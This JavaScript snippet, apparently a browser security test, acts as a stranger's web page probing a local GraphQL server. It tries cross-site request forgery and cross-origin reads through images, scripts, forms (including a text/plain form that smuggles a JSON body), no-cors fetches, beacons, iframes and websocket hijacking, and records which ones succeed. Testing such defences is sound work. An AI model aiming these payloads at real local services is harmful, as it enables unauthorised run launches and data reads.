// What a page of a stranger tries at a web server on this machine; returns what came of each way.
const [target, launch, subscribe, read] = a;
const inUrl = `${target}/graphql?query=${encodeURIComponent(launch)}`;
const report = `${target}/report_asset_materialization/prices`;
const json = JSON.stringify({ query: launch });
const seconds = (n) => new Promise((go) => setTimeout(() => go("nothing came"), n * 1000));
const within = (promise) => Promise.race([promise.catch((error) => `refused: ${error}`), seconds(8)]);

const loaded = (element, url) => within(new Promise((go) => {
  element.onload = () => go("loaded");
  element.onerror = () => go("refused");
  element.src = url;
  document.body.append(element);
}));

const framed = (fill) => within(new Promise((go) => {
  const frame = document.createElement("iframe");
  frame.name = `frame${Math.random()}`;
  document.body.append(frame);
  setTimeout(() => {
    frame.onload = () => {
      try { go(`read: ${frame.contentWindow.document.body.innerText}`); } catch { go("closed"); }
    };
    fill(frame);
  }, 50);
}));

const posted = (enctype, name, value, action) => framed((frame) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action, enctype, target: frame.name });
  const field = document.createElement("input");
  Object.assign(field, { name, value });
  form.append(field);
  document.body.append(form);
  form.submit();
});

const fetched = async (url, options) => {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? "opaque" : `read: ${await answer.text()}`;
};

const socket = () => within(new Promise((go) => {
  const wire = new WebSocket(`${target.replace("http", "ws")}/graphql`, "graphql-ws");
  wire.onopen = () => {
    wire.send(JSON.stringify({ type: "connection_init" }));
    for (const [id, query] of [["1", subscribe], ["2", launch]]) {
      wire.send(JSON.stringify({ type: "start", id, payload: { query } }));
    }
  };
  wire.onmessage = (message) => go(`read: ${message.data}`);
  wire.onerror = () => go("refused");
}));

const text = { method: "POST", headers: { "Content-Type": "text/plain" }, body: json };
const saying = { ...text, headers: { "Content-Type": "text/plain; a=application/json" } };
const asJson = { ...text, headers: { "Content-Type": "application/json" } };
return {
  image: await loaded(new Image(), inUrl),
  script: await loaded(document.createElement("script"), `${target}/server_info`),
  "form": await posted("application/x-www-form-urlencoded", "a", "b", inUrl),
  "form that looks like JSON": await posted(
    "text/plain", json.slice(0, -1) + ',"x":"', '"}', `${target}/graphql`),
  "event by form": await posted("application/x-www-form-urlencoded", "a", "b", report),
  "text, not to be read": await within(fetched(`${target}/graphql`, { ...text, mode: "no-cors" })),
  "text that says JSON": await within(fetched(`${target}/graphql`, { ...saying, mode: "no-cors" })),
  "text, to be read": await within(fetched(`${target}/graphql`, text)),
  "event without a body": await within(fetched(report, { method: "POST", mode: "no-cors" })),
  "beacon": String(navigator.sendBeacon(`${target}/graphql`, json)),
  "JSON": await within(fetched(`${target}/graphql`, asJson)),
  "event as JSON": await within(fetched(report, { ...asJson, body: "{}" })),
  "reading": await within(fetched(`${target}/server_info`, {})),
  "reading by URL": await within(fetched(`${target}/graphql?query=${encodeURIComponent(read)}`, {})),
  "frame": await framed((frame) => { frame.src = `${target}/runs`; }),
  "websocket": await socket(),
};
